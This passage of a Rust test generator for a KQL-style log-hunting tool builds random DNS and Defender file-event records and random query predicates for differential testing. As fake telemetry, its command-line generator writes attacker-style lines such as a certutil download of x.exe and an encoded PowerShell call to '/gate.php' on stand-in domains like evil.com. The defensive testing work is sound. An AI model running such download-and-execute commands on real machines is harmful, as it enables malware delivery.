//! The random exports behind the differential tests (`tests/differential.rs`,
//! `tests/differential_engine.rs`): seeded cases, `DnsEvents` / `DeviceFileEvents` records with
//! JSON escapes, odd case, boundary characters, nested objects, duplicate keys and malformed
//! lines, written as JSON lines or JSON arrays; and random `where` predicates over their columns,
//! as [`Pred`] trees the oracle evaluates and as KQL text.
//!
//! Every random choice flows from one seed, so a failing case replays alone.

use std::path::PathBuf;

use loghunt::input::LogFile;
use loghunt::scan::Position;
use loghunt::time::parse_datetime;

use crate::oracle::{Cmp, Op, Pred, Rng, Test};
use serde_json::Value as Json;

/// The seed of a test: `LOGHUNT_DIFF_SEED` (decimal or `0x` hex) if set, else the test's own.
pub fn seed(default: u64) -> u64 {
    match std::env::var("LOGHUNT_DIFF_SEED") {
        Ok(text) => {
            let text = text.trim();
            let parsed = match text.strip_prefix("0x") {
                Some(hex) => u64::from_str_radix(hex, 16),
                None => text.parse(),
            };
            parsed.unwrap_or_else(|_| panic!("LOGHUNT_DIFF_SEED={text:?} is not a number"))
        }
        Err(_) => default,
    }
}

/// How many random cases a test runs: `LOGHUNT_DIFF_CASES` if set. The defaults keep a debug
/// `cargo test` well under ten seconds on two cores.
pub fn cases(default: usize) -> usize {
    std::env::var("LOGHUNT_DIFF_CASES")
        .ok()
        .and_then(|n| n.trim().parse().ok())
        .unwrap_or(default)
}

/// Runs a test's cases, case `i` on its own RNG seeded with the test's seed plus `i`, so that a
/// failing case replays alone: its message names the seed to set.
pub fn for_each_case(test: &str, default_seed: u64, default_count: usize, mut check: impl FnMut(&mut Rng, &str)) {
    let base = seed(default_seed);
    for i in 0..cases(default_count) {
        let case_seed = base.wrapping_add(i as u64);
        let context = format!(
            "case seed {case_seed:#x} (replay: LOGHUNT_DIFF_SEED={case_seed:#x} LOGHUNT_DIFF_CASES=1 \
             cargo test --test {} {test})",
            env!("CARGO_CRATE_NAME")
        );
        check(&mut Rng::new(case_seed), &context);
    }
}

/// What a column holds, which decides both its random values and the needles rules look for
/// in it, so that rules hit often enough for the comparison to mean something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    Domain,
    Host,
    Ip,
    QueryType,
    Sha256,
    Sha1,
    Md5,
    File,
    Path,
    Cmd,
    Additional,
    /// The datetime column: compared with `datetime(...)`, never string-tested.
    Time,
}

/// The kinds of string columns.
pub const KINDS: &[Kind] = &[
    Kind::Domain,
    Kind::Host,
    Kind::Ip,
    Kind::QueryType,
    Kind::Sha256,
    Kind::Sha1,
    Kind::Md5,
    Kind::File,
    Kind::Path,
    Kind::Cmd,
    Kind::Additional,
];

#[derive(Debug, PartialEq, Eq)]
pub struct TableSpec {
    pub name: &'static str,
    /// The datetime column, projected and ordered by but never string-tested.
    pub time: &'static str,
    /// The string columns rules test, and what they hold.
    pub columns: &'static [(&'static str, Kind)],
}

pub static DNS: TableSpec = TableSpec {
    name: "DnsEvents",
    time: "TimeGenerated",
    columns: &[
        ("Computer", Kind::Host),
        ("Name", Kind::Domain),
        ("IPAddresses", Kind::Ip),
        ("QueryType", Kind::QueryType),
        ("ClientIP", Kind::Ip),
    ],
};

pub static DFE: TableSpec = TableSpec {
    name: "DeviceFileEvents",
    time: "Timestamp",
    columns: &[
        ("DeviceName", Kind::Host),
        ("FileName", Kind::File),
        ("FolderPath", Kind::Path),
        ("SHA1", Kind::Sha1),
        ("SHA256", Kind::Sha256),
        ("MD5", Kind::Md5),
        ("InitiatingProcessFileName", Kind::File),
        ("InitiatingProcessCommandLine", Kind::Cmd),
        ("AdditionalFields", Kind::Additional),
    ],
};

pub const DOMAINS: &[&str] = &[
    "spapro.co.com",
    "moocow.my",
    "www.mobile1.com",
    "bad-domain.org",
    "x_y.example",
    "café.example",
    "straße.de",
    "a1.b2",
    "evil.com",
];
pub const BENIGN_DOMAINS: &[&str] = &[
    "microsoft.com",
    "login.live.com",
    "contoso.local",
    "moocow.mystery.net",
    "co.com",
];
pub const DOMAIN_PREFIXES: &[&str] = &[
    "", "", "", "", "a.", "www.", "my", "x_", "x-", "9", "cdn.", ".", "é", "A",
];
pub const DOMAIN_SUFFIXES: &[&str] = &[
    "",
    "",
    "",
    "",
    ".",
    "x",
    "2",
    "munity",
    "-cdn.net",
    "_",
    ":443",
    "/gate.php",
    " ",
    "é",
];
/// Needles for domain columns: the IOCs, and their parts and variants that start or end with
/// a separator, are upper-case, or contain `/`.
pub const DOMAIN_NEEDLES: &[&str] = &[
    "spapro.co.com",
    "moocow.my",
    "www.mobile1.com",
    "bad-domain.org",
    "x_y.example",
    "café.example",
    "straße.de",
    "a1.b2",
    "evil.com",
    "SPAPRO.CO.COM",
    "MooCow.MY",
    "CAFÉ.EXAMPLE",
    "STRASSE.DE",
    "moocow",
    ".my",
    "co.com",
    "moocow.",
    "-cdn",
    "mobile1",
    "x_y",
    "evil.com.",
    "http://moocow.my/",
    "/gate.php",
    "A1.B2",
    "y.example",
    "my",
];
pub const IPS: &[&str] = &["10.0.0.5", "185.220.101.4", "1.2.3.4", "2001:db8::1"];
pub const BENIGN_IPS: &[&str] = &["1.2.3.45", "11.2.3.4", "192.168.1.1", "10.0.0.50"];
/// Needles found only in the text a non-string JSON value reads as (`1.0e2` reads `100.0`,
/// `true` reads `true`), never in the raw bytes of the record.
pub const RENDERED_NEEDLES: &[&str] = &["100.0", "-0.0", "true", "123", "e20", "0.5"];
pub const IP_NEEDLES: &[&str] = &[
    "10.0.0.5",
    "185.220.101.4",
    "1.2.3.4",
    "2001:db8::1",
    "1.2.3",
    ".4",
    "185.220.",
    "::1",
];
pub const QUERY_TYPES: &[&str] = &["A", "AAAA", "MX", "TXT", "a", "Aaaa", "CNAME", "A "];
pub const QUERY_TYPE_NEEDLES: &[&str] = &["A", "AAAA", "aaaa", "MX", "a", "TXT", "A "];
pub const HOSTS: &[&str] = &[
    "dc01.contoso.local",
    "WS-042.contoso.local",
    "laptop_ß",
    "host-moocow.my",
    "SRV\\01",
    "evil.com",
];
pub const HOST_NEEDLES: &[&str] = &[
    "dc01.contoso.local",
    "WS-042.contoso.local",
    "host-moocow.my",
    "SRV\\01",
    "contoso.local",
    "WS-042",
    "dc01",
    "laptop_ß",
    "LAPTOP",
    "moocow.my",
    "\\01",
    "srv",
];
pub const FILE_NAMES: &[&str] = &[
    "evil.exe",
    "EVIL.EXE",
    "notevil.exe",
    "evil.exe.txt",
    "svchost.exe",
    "gate.php",
    "café.dll",
    "a b.ps1",
    "powershell.exe",
    "PowerShell.EXE",
    "certutil.exe",
];
pub const FOLDERS: &[&str] = &[
    "C:\\Users\\Bob\\AppData\\Local\\Temp\\",
    "C:\\Windows\\System32\\",
    "/tmp/",
    "\\\\server\\share\\moocow.my\\",
    "C:\\ProgramData\\évil\\",
    "c:\\users\\bob\\appdata\\local\\temp\\",
];
pub const PATH_NEEDLES: &[&str] = &[
    "\\Temp\\",
    "AppData",
    "C:\\Users",
    "/tmp/",
    "gate.php",
    "evil.exe",
    ".exe",
    "System32\\",
    "-enc",
    "powershell",
    "POWERSHELL.EXE",
    "évil",
    "\\\\server",
    "\"",
    "http://",
    "a b.ps1",
    "\t&",
    "\"SHA256\":\"",
    "\\",
    "/",
];

pub fn random_hex(rng: &mut Rng, len: usize) -> String {
    (0..len)
        .map(|_| char::from(b"0123456789abcdef"[rng.below(16)]))
        .collect()
}

/// The IOCs of one case: a few of the domains and vocab, which its records and its rules
/// both draw from most of the time, so that rules hit often enough to mean something.
pub struct Vocab {
    pub domains: Vec<&'static str>,
    sha256: Vec<String>,
    sha1: Vec<String>,
    md5: Vec<String>,
}

impl Vocab {
    pub fn new(rng: &mut Rng) -> Vocab {
        // The hashes are fixed (from a constant seed), so every case and run share them.
        let mut fixed = Rng::new(0x1C0_C0FFEE);
        let mut pool = |len: usize, rng: &mut Rng| {
            let mut all: Vec<String> = (0..3).map(|_| random_hex(&mut fixed, len)).collect();
            rng.shuffle(&mut all);
            all.truncate(rng.range(1, 2));
            all
        };
        let (sha256, sha1, md5) = (pool(64, rng), pool(40, rng), pool(32, rng));
        let mut domains = DOMAINS.to_vec();
        rng.shuffle(&mut domains);
        domains.truncate(rng.range(2, 3));
        Vocab {
            domains,
            sha256,
            sha1,
            md5,
        }
    }

    pub fn hashes(&self, kind: Kind) -> &[String] {
        match kind {
            Kind::Sha1 => &self.sha1,
            Kind::Md5 => &self.md5,
            _ => &self.sha256,
        }
    }

    /// A domain IOC: usually one of this case's, sometimes any.
    pub fn domain(&self, rng: &mut Rng) -> &'static str {
        if rng.percent(75) {
            rng.pick_copy(&self.domains)
        } else {
            rng.pick_copy(DOMAINS)
        }
    }
}

/// Random ASCII case: as is, upper, lower, or mixed letter by letter.
pub fn odd_case(rng: &mut Rng, text: &str) -> String {
    match rng.below(8) {
        0 => text.to_ascii_uppercase(),
        1 => text.to_ascii_lowercase(),
        2 => text
            .chars()
            .map(|c| {
                if rng.percent(50) {
                    c.to_ascii_uppercase()
                } else {
                    c.to_ascii_lowercase()
                }
            })
            .collect(),
        _ => text.to_string(),
    }
}

pub fn domain_value(rng: &mut Rng, vocab: &Vocab) -> String {
    let base = if rng.percent(80) {
        vocab.domain(rng)
    } else {
        rng.pick(BENIGN_DOMAINS)
    };
    // Often bare, so that `==` and `in` can hit; otherwise glued or separated on either side.
    let prefix = if rng.percent(55) { "" } else { rng.pick(DOMAIN_PREFIXES) };
    let suffix = if rng.percent(55) { "" } else { rng.pick(DOMAIN_SUFFIXES) };
    let mut value = format!("{prefix}{base}{suffix}");
    if rng.percent(5) {
        value.pop();
    }
    odd_case(rng, &value)
}

/// An IOC hash as data holds it: exact, upper-cased, padded, truncated, prefixed, or another
/// hash of the same length.
pub fn hash_value(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> String {
    let pool = vocab.hashes(kind);
    let hash = if rng.percent(75) {
        rng.pick(pool).clone()
    } else {
        random_hex(rng, pool[0].len())
    };
    match rng.below(20) {
        0..=1 => hash.to_ascii_uppercase(),
        2 => format!("{hash} "),
        3 => format!(" {hash}"),
        4 => hash[..hash.len() - 1].to_string(),
        5 => format!("sha:{hash}"),
        6 => odd_case(rng, &hash),
        _ => hash,
    }
}

pub fn command_line(rng: &mut Rng, vocab: &Vocab) -> String {
    let domain = domain_value(rng, vocab);
    let folder = rng.pick(FOLDERS);
    let file = rng.pick(FILE_NAMES);
    match rng.below(5) {
        0 => format!("{} -enc SQBFAFgA http://{domain}/gate.php", rng.pick(FILE_NAMES)),
        1 => format!("\"{folder}{file}\" --hash={}", hash_value(rng, vocab, Kind::Sha256)),
        2 => format!("certutil -urlcache -f https://{domain}/x.exe {folder}{file}"),
        3 => format!("cmd.exe /c \"echo {domain}\"\t& exit"),
        _ => format!(
            "{folder}{file} {{\"SHA256\":\"{}\"}}",
            hash_value(rng, vocab, Kind::Sha256)
        ),
    }
}

/// One JSON value as the generator means it. The oracle reads string columns from this model,
/// not from the bytes loghunt parses, so a decoding bug cannot hide on both sides.
#[derive(Debug, Clone)]
pub enum Field {
    Str(String),
    Null,
    /// Any other JSON value, as literal text: numbers, booleans, arrays.
    Raw(String),
    /// A real nested object, which may hold keys named like the table's columns.
    Obj(Vec<(String, Field)>),
}

impl Field {
    /// The value as serde_json holds it, for the text of a non-string value in a string column.
    pub fn to_json(&self) -> Json {
        match self {
            Field::Str(s) => Json::String(s.clone()),
            Field::Null => Json::Null,
            Field::Raw(text) => serde_json::from_str(text).expect("raw fields are valid JSON"),
            Field::Obj(members) => Json::Object(members.iter().map(|(k, v)| (k.clone(), v.to_json())).collect()),
        }
    }

    /// What a string operator sees: the string itself; `""` for null (Kusto strings are never
    /// null); other values as their compact JSON text (README, Tables: "strings excepted: they
    /// read as their JSON text").
    pub fn text(&self) -> String {
        match self {
            Field::Str(s) => s.clone(),
            Field::Null => String::new(),
            other => other.to_json().to_string(),
        }
    }
}

/// A record as written: members in order, duplicates allowed (the last one wins, as in
/// serde_json's map).
#[derive(Debug, Clone)]
pub struct Record {
    pub members: Vec<(String, Field)>,
}

impl Record {
    pub fn get(&self, key: &str) -> Option<&Field> {
        self.members.iter().rev().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    pub fn text(&self, column: &str) -> String {
        self.get(column).map_or_else(String::new, Field::text)
    }

    /// A datetime column's value: a string that parses, else null.
    pub fn datetime(&self, column: &str) -> Option<i64> {
        match self.get(column) {
            Some(Field::Str(s)) => parse_datetime(s),
            _ => None,
        }
    }
}

/// A value of a string column of this kind: usually a string, sometimes null, empty, a number,
/// a boolean, or an array — the last three read as their JSON text.
pub fn field_value(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> Field {
    match rng.below(100) {
        0..=5 => return Field::Null,
        6..=8 => return Field::Str(String::new()),
        9..=11 => {
            let raw = *rng.pick(&[
                "123",
                "1.0e2",
                "-0",
                "true",
                "[\"moocow.my\"]",
                "[\"moocow\\u002emy\"]",
                "{\"Name\":\"moocow.my\"}",
                "123456789012345678901",
                "0.5",
            ]);
            return Field::Raw(raw.to_string());
        }
        _ => {}
    }
    let text = match kind {
        Kind::Domain => domain_value(rng, vocab),
        Kind::Host => {
            if rng.percent(70) {
                let host = *rng.pick(HOSTS);
                odd_case(rng, host)
            } else {
                domain_value(rng, vocab)
            }
        }
        Kind::Ip => match rng.below(4) {
            0 => rng.pick(BENIGN_IPS).to_string(),
            1 => format!("{};{}", rng.pick(IPS), rng.pick(BENIGN_IPS)),
            2 => format!("{}; {}", rng.pick(BENIGN_IPS), rng.pick(IPS)),
            _ => rng.pick(IPS).to_string(),
        },
        Kind::QueryType => rng.pick(QUERY_TYPES).to_string(),
        Kind::Sha256 | Kind::Sha1 | Kind::Md5 => hash_value(rng, vocab, kind),
        Kind::File => rng.pick(FILE_NAMES).to_string(),
        Kind::Path => format!("{}{}", rng.pick(FOLDERS), rng.pick(FILE_NAMES)),
        Kind::Cmd => command_line(rng, vocab),
        Kind::Time => unreachable!("datetime columns are generated by time_value"),
        Kind::Additional => {
            // Defender's AdditionalFields: JSON text inside a string, so every quote is escaped
            // in the export; or (below) a real object with the same key names.
            if rng.percent(30) {
                return Field::Obj(nested_object(rng, vocab));
            }
            format!(
                "{{\"FileType\":\"PortableExecutable\",\"SHA256\":\"{}\",\"Url\":\"http://{}/\"}}",
                hash_value(rng, vocab, Kind::Sha256),
                domain_value(rng, vocab)
            )
        }
    };
    Field::Str(text)
}

/// A nested object whose keys are column names (`SHA256`, `Name`, ...) and whose values are
/// IOCs: a raw-byte search for `"SHA256":"<ioc>"` finds them, but they are not the columns.
pub fn nested_object(rng: &mut Rng, vocab: &Vocab) -> Vec<(String, Field)> {
    let mut members = vec![
        ("SHA256".to_string(), Field::Str(hash_value(rng, vocab, Kind::Sha256))),
        ("Name".to_string(), Field::Str(domain_value(rng, vocab))),
        (
            "Nested".to_string(),
            Field::Obj(vec![
                ("SHA1".to_string(), Field::Str(hash_value(rng, vocab, Kind::Sha1))),
                ("MD5".to_string(), Field::Str(hash_value(rng, vocab, Kind::Md5))),
                ("Computer".to_string(), Field::Str(rng.pick(HOSTS).to_string())),
            ]),
        ),
        ("ClientIP".to_string(), Field::Str(rng.pick(IPS).to_string())),
    ];
    rng.shuffle(&mut members);
    members
}

/// Datetimes from a small set, so that `order by` meets ties (including the same instant
/// written two ways), plus ones that read as null.
pub fn time_value(rng: &mut Rng) -> Option<Field> {
    const TIMES: &[&str] = &[
        "2026-05-27T08:01:05Z",
        "2026-05-27T08:01:05.0000000Z",
        "2026-05-27T08:01:05.5Z",
        "2026-05-27T08:01:05.1234567Z",
        "2026-05-26T23:59:59Z",
        "2026-05-28 10:00:00",
        "2026-05-27T09:01:05+01:00",
        "2026-06-01T00:00:00Z",
    ];
    Some(match rng.below(20) {
        0 => return None,
        1 => Field::Null,
        2 => Field::Str("not a date".to_string()),
        3 => Field::Raw("1716796865".to_string()),
        _ => Field::Str(rng.pick(TIMES).to_string()),
    })
}

/// How a record is spelled: how often characters are `\u` escapes, and where white space goes.
#[derive(Debug, Clone)]
pub struct Style {
    pub escape_percent: u32,
    pub key_escape_percent: u32,
    pub space_percent: u32,
    /// For pretty-printed array elements: the newline to use.
    pub newline: Option<&'static str>,
}

pub fn random_style(rng: &mut Rng, pretty: Option<&'static str>) -> Style {
    Style {
        escape_percent: *rng.pick(&[0, 0, 3, 10, 40]),
        key_escape_percent: *rng.pick(&[0, 0, 0, 5, 30]),
        space_percent: *rng.pick(&[0, 50, 100]),
        newline: pretty,
    }
}

pub fn unicode_escape(rng: &mut Rng, c: char, out: &mut Vec<u8>) {
    let mut units = [0u16; 2];
    for unit in c.encode_utf16(&mut units) {
        let hex = format!("{unit:04x}");
        let hex = if rng.percent(50) { hex.to_ascii_uppercase() } else { hex };
        out.extend_from_slice(b"\\u");
        out.extend_from_slice(hex.as_bytes());
    }
}

/// Writes a JSON string by hand, choosing per character between the raw character, its short
/// escape (`\"`, `\\`, `\/`, `\t`, ...) and a `\uXXXX` escape (surrogate pairs beyond the BMP).
pub fn write_string(rng: &mut Rng, text: &str, escape_percent: u32, out: &mut Vec<u8>) {
    out.push(b'"');
    for c in text.chars() {
        let must = matches!(c, '"' | '\\') || (c as u32) < 0x20;
        if must || rng.percent(escape_percent) {
            let short: Option<&[u8]> = match c {
                '"' => Some(b"\\\""),
                '\\' => Some(b"\\\\"),
                '/' => Some(b"\\/"),
                '\t' => Some(b"\\t"),
                '\n' => Some(b"\\n"),
                '\r' => Some(b"\\r"),
                '\u{8}' => Some(b"\\b"),
                '\u{c}' => Some(b"\\f"),
                _ => None,
            };
            match short {
                Some(escape) if rng.percent(70) => out.extend_from_slice(escape),
                _ => unicode_escape(rng, c, out),
            }
        } else if c == '/' && rng.percent(25) {
            out.extend_from_slice(b"\\/");
        } else {
            let mut buf = [0u8; 4];
            out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
        }
    }
    out.push(b'"');
}

pub fn write_field(rng: &mut Rng, field: &Field, style: &Style, indent: usize, out: &mut Vec<u8>) {
    match field {
        Field::Str(s) => write_string(rng, s, style.escape_percent, out),
        Field::Null => out.extend_from_slice(b"null"),
        Field::Raw(text) => out.extend_from_slice(text.as_bytes()),
        Field::Obj(members) => write_object(rng, members, style, indent + 1, out),
    }
}

pub fn write_object(rng: &mut Rng, members: &[(String, Field)], style: &Style, indent: usize, out: &mut Vec<u8>) {
    out.push(b'{');
    for (i, (key, value)) in members.iter().enumerate() {
        if i > 0 {
            out.push(b',');
        }
        match style.newline {
            Some(newline) => {
                out.extend_from_slice(newline.as_bytes());
                out.extend(std::iter::repeat_n(b' ', 2 * (indent + 1)));
            }
            None if rng.percent(style.space_percent) => out.push(b' '),
            None => {}
        }
        write_string(rng, key, style.key_escape_percent, out);
        if rng.percent(3) {
            out.push(b' ');
        }
        out.push(b':');
        if rng.percent(style.space_percent) {
            out.push(if rng.percent(90) { b' ' } else { b'\t' });
        }
        write_field(rng, value, style, indent, out);
    }
    if let (Some(newline), false) = (style.newline, members.is_empty()) {
        out.extend_from_slice(newline.as_bytes());
        out.extend(std::iter::repeat_n(b' ', 2 * indent));
    }
    out.push(b'}');
}

/// Which table a generated file holds, which decides its records and its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileTable {
    /// Log Analytics rows, each with its own `Type`; the file name names no table.
    Dns,
    /// Defender rows without `Type`, in a path that names `DeviceFileEvents`.
    Dfe,
}

pub fn dns_record(rng: &mut Rng, vocab: &Vocab) -> Record {
    let mut members: Vec<(String, Field)> = Vec::new();
    // The row's own Type decides its table; a few name another table, or this one in the
    // wrong case (an unknown table: Kusto table names are case-sensitive).
    let ty = match rng.below(25) {
        0 => "dnsevents",
        1 => "Syslog",
        2 => "SecurityEvent",
        3 => "DeviceFileEvents",
        _ => "DnsEvents",
    };
    members.push(("Type".into(), Field::Str(ty.into())));
    if let Some(time) = time_value(rng) {
        members.push(("TimeGenerated".into(), time));
    }
    for &(column, kind) in DNS.columns {
        if !rng.percent(6) {
            members.push((column.into(), field_value(rng, vocab, kind)));
        }
    }
    let code = match rng.below(4) {
        0 => Field::Str("3".into()),
        1 => Field::Null,
        _ => Field::Raw(rng.pick(&["0", "3", "2.0"]).to_string()),
    };
    members.push(("ResultCode".into(), code));
    if rng.percent(30) {
        members.push(("SourceSystem".into(), Field::Str("OpsManager".into())));
    }
    if rng.percent(20) {
        // Not a DnsEvents column: loghunt must ignore it, keys named like columns included.
        members.push(("Properties".into(), Field::Obj(nested_object(rng, vocab))));
    }
    finish_members(rng, vocab, members, &DNS)
}

pub fn dfe_record(rng: &mut Rng, vocab: &Vocab) -> Record {
    let mut members: Vec<(String, Field)> = Vec::new();
    match rng.below(25) {
        0 => members.push(("Type".into(), Field::Str("DnsEvents".into()))),
        1 => members.push(("Type".into(), Field::Str("DeviceFileEvents".into()))),
        2 => members.push(("Type".into(), Field::Null)),
        3 => members.push(("Type".into(), Field::Str("DeviceEvents".into()))),
        _ => {}
    }
    if let Some(time) = time_value(rng) {
        members.push(("Timestamp".into(), time));
    }
    for &(column, kind) in DFE.columns {
        if !rng.percent(6) {
            members.push((column.into(), field_value(rng, vocab, kind)));
        }
    }
    let size = match rng.below(4) {
        0 => Field::Str("4096".into()),
        1 => Field::Null,
        _ => Field::Raw(rng.pick(&["4096", "0", "1e3"]).to_string()),
    };
    members.push(("FileSize".into(), size));
    if rng.percent(40) {
        members.push(("ActionType".into(), Field::Str("FileCreated".into())));
    }
    finish_members(rng, vocab, members, &DFE)
}

/// Shuffles the key order, and sometimes repeats a column with another value (the last one
/// is the column's value).
pub fn finish_members(rng: &mut Rng, vocab: &Vocab, mut members: Vec<(String, Field)>, table: &TableSpec) -> Record {
    if rng.percent(50) {
        rng.shuffle(&mut members);
    }
    if rng.percent(5) {
        let &(column, kind) = rng.pick(table.columns);
        let at = rng.range(0, members.len());
        members.insert(at, (column.into(), field_value(rng, vocab, kind)));
    }
    Record { members }
}

/// A record loghunt must count as malformed. `balanced` ones keep braces and quotes balanced,
/// so that a JSON array's element framing still finds the next element.
pub fn malformed_bytes(rng: &mut Rng, valid: &[u8], balanced: bool) -> Vec<u8> {
    let choice = if balanced { rng.range(1, 6) } else { rng.below(8) };
    match choice {
        0 => valid[..rng.range(1, valid.len() - 1)].to_vec(),
        1 => {
            // A trailing comma before the closing brace.
            let mut bytes = valid.to_vec();
            bytes.insert(bytes.len() - 1, b',');
            bytes
        }
        2 => b"not json at all".to_vec(),
        // Not an object. (A JSON-lines file must not start with `[`: that makes it an array.)
        3 if balanced => b"[\"moocow.my\"]".to_vec(),
        3 => b"\"moocow.my\"".to_vec(),
        4 => b"{\"Type\":\"DnsEvents\",\"Name\":\"\xffmoocow.my\"}".to_vec(),
        5 => b"{\"Type\":\"DnsEvents\",\"Name\":\"moocow.my\\x\"}".to_vec(),
        6 => b"{\"Type\":\"DnsEvents\",\"Name\":\"tab\there\"}".to_vec(),
        _ => b"{\"Type\":\"DnsEvents\",\"Name\":\"a\"".to_vec(),
    }
}

/// A record of a generated file, where loghunt must report it, and what it is.
#[derive(Debug, Clone)]
pub struct Placed {
    pub file: usize,
    pub offset: u64,
    pub line: u64,
    pub bytes: Vec<u8>,
    /// `None`: a malformed record.
    pub record: Option<Record>,
}

impl Placed {
    pub fn position(&self) -> Position {
        Position {
            file: self.file,
            offset: self.offset,
            line: self.line,
        }
    }
}

pub struct GeneratedFile {
    pub name: String,
    pub table: FileTable,
    pub bytes: Vec<u8>,
}

pub fn lines_in(bytes: &[u8]) -> u64 {
    bytes.iter().filter(|&&b| b == b'\n').count() as u64
}

/// A JSON-lines file: LF, CRLF or both, blank and white-space lines, a BOM, a last line
/// without its newline.
pub fn jsonl_file(rng: &mut Rng, vocab: &Vocab, file: usize, table: FileTable, placed: &mut Vec<Placed>) -> Vec<u8> {
    let mut out = Vec::new();
    if rng.percent(15) {
        out.extend_from_slice(b"\xEF\xBB\xBF");
    }
    let crlf = rng.below(3);
    let count = if rng.percent(5) { 0 } else { rng.range(1, 24) };
    for i in 0..count {
        if rng.percent(8) {
            let blank = rng.pick_copy(&["\n", "\r\n", "   \n", "\t\r\n"]);
            out.extend_from_slice(blank.as_bytes());
        }
        let line_start = out.len();
        let line = lines_in(&out) + 1;
        if rng.percent(5) {
            out.extend_from_slice(b"  ");
        }
        let record = match table {
            FileTable::Dns => dns_record(rng, vocab),
            FileTable::Dfe => dfe_record(rng, vocab),
        };
        let style = random_style(rng, None);
        let mut bytes = Vec::new();
        write_object(rng, &record.members, &style, 0, &mut bytes);
        let record = if rng.percent(4) {
            bytes = malformed_bytes(rng, &bytes, false);
            None
        } else {
            Some(record)
        };
        out.extend_from_slice(&bytes);
        if rng.percent(5) {
            out.push(b' ');
        }
        placed.push(Placed {
            file,
            offset: line_start as u64,
            line,
            bytes,
            record,
        });
        let last = i + 1 == count;
        if !last || rng.percent(70) {
            let crlf = crlf == 1 || (crlf == 2 && rng.percent(50));
            out.extend_from_slice(if crlf { b"\r\n" } else { b"\n" });
        }
    }
    out
}

/// A JSON array file, pretty-printed (LF or CRLF) or compact, sometimes with an empty element
/// (`,,`), which loghunt counts as a malformed record.
pub fn array_file(rng: &mut Rng, vocab: &Vocab, file: usize, table: FileTable, placed: &mut Vec<Placed>) -> Vec<u8> {
    let pretty = match rng.below(3) {
        0 => Some("\n"),
        1 => Some("\r\n"),
        _ => None,
    };
    let mut out = Vec::new();
    if rng.percent(15) {
        out.extend_from_slice(b"\xEF\xBB\xBF");
    }
    if rng.percent(20) {
        out.extend_from_slice(b" \n");
    }
    out.push(b'[');
    let count = if rng.percent(5) { 0 } else { rng.range(1, 24) };
    for i in 0..count {
        if i > 0 {
            out.push(b',');
            if rng.percent(3) {
                // An empty element: the reader reports it at the second comma.
                placed.push(Placed {
                    file,
                    offset: out.len() as u64,
                    line: lines_in(&out) + 1,
                    bytes: Vec::new(),
                    record: None,
                });
                out.push(b',');
            }
        }
        match pretty {
            Some(newline) => {
                out.extend_from_slice(newline.as_bytes());
                out.extend_from_slice(b"  ");
            }
            None if rng.percent(30) => out.push(b' '),
            None => {}
        }
        let record = match table {
            FileTable::Dns => dns_record(rng, vocab),
            FileTable::Dfe => dfe_record(rng, vocab),
        };
        let style = random_style(rng, pretty);
        let mut bytes = Vec::new();
        write_object(rng, &record.members, &style, 1, &mut bytes);
        let record = if rng.percent(4) {
            bytes = malformed_bytes(rng, &bytes, true);
            None
        } else {
            Some(record)
        };
        placed.push(Placed {
            file,
            offset: out.len() as u64,
            line: lines_in(&out) + 1,
            bytes: bytes.clone(),
            record,
        });
        out.extend_from_slice(&bytes);
    }
    if let Some(newline) = pretty {
        out.extend_from_slice(newline.as_bytes());
    }
    out.push(b']');
    if rng.percent(50) {
        out.push(b'\n');
    }
    out
}

// ---- random rules ----

pub fn needle_for(rng: &mut Rng, vocab: &Vocab, kind: Kind) -> String {
    if rng.percent(3) {
        return String::new();
    }
    if rng.percent(3) {
        return rng.pick(RENDERED_NEEDLES).to_string();
    }
    // Sometimes a needle meant for another column: rules are not always sensible.
    let kind = if rng.percent(15) { *rng.pick(KINDS) } else { kind };
    match kind {
        Kind::Domain if rng.percent(60) => {
            let domain = vocab.domain(rng);
            if rng.percent(20) {
                domain.to_ascii_uppercase()
            } else {
                domain.to_string()
            }
        }
        Kind::Domain => rng.pick(DOMAIN_NEEDLES).to_string(),
        Kind::Host => rng.pick(HOST_NEEDLES).to_string(),
        Kind::Ip => rng.pick(IP_NEEDLES).to_string(),
        Kind::QueryType => rng.pick(QUERY_TYPE_NEEDLES).to_string(),
        Kind::Sha256 | Kind::Sha1 | Kind::Md5 => {
            let hash = rng.pick(vocab.hashes(kind)).clone();
            match rng.below(10) {
                0 => hash.to_ascii_uppercase(),
                1 => hash[..hash.len() / 2].to_string(),
                _ => hash,
            }
        }
        Kind::File => rng.pick(FILE_NAMES).to_string(),
        Kind::Path | Kind::Cmd => {
            if rng.percent(60) {
                rng.pick(PATH_NEEDLES).to_string()
            } else {
                vocab.domain(rng).to_string()
            }
        }
        Kind::Time => unreachable!("datetime columns get no string needles"),
        Kind::Additional => match rng.below(3) {
            0 => rng.pick(&vocab.sha256).clone(),
            1 => vocab.domain(rng).to_string(),
            _ => rng.pick(PATH_NEEDLES).to_string(),
        },
    }
}

pub fn random_op(rng: &mut Rng) -> Op {
    let test = *rng.pick(&Test::ALL);
    let list_only = matches!(test, Test::HasAny | Test::HasAll);
    Op {
        test,
        // `has_any_cs` and `!has_any` are not in the supported subset (nor is the former KQL).
        case_sensitive: !list_only && rng.percent(40),
        negated: !list_only && rng.percent(30),
    }
}

/// `datetime(...)` literals near the records' times, in the spellings Kusto takes.
pub const TIME_LITERALS: &[&str] = &[
    "2026-05-27T08:01:05Z",
    "2026-05-27 08:01:05.5",
    "2026-05-27T08:01:05.0000001Z",
    "2026-05-26",
    "2026-05-27T09:01:05+01:00",
    "2026-05-28T10:00:00Z",
];

pub fn random_leaf(rng: &mut Rng, vocab: &Vocab, columns: &[(String, Kind)]) -> Pred {
    let (column, kind) = rng.pick(columns).clone();
    if kind == Kind::Time {
        let literal = rng.pick(TIME_LITERALS).to_string();
        let ticks = parse_datetime(&literal).expect("the literals parse");
        return Pred::Time {
            column,
            cmp: *rng.pick(&Cmp::ALL),
            literal,
            ticks,
        };
    }
    if rng.percent(8) {
        return Pred::IsEmpty {
            column,
            negated: rng.percent(50),
        };
    }
    let op = random_op(rng);
    let count = if op.takes_list() {
        if rng.percent(8) {
            0
        } else {
            rng.range(1, 4)
        }
    } else {
        1
    };
    let needles = (0..count).map(|_| needle_for(rng, vocab, kind)).collect();
    Pred::Test { column, op, needles }
}

pub fn random_pred(rng: &mut Rng, vocab: &Vocab, columns: &[(String, Kind)], depth: u32) -> Pred {
    if depth == 0 || rng.percent(40) {
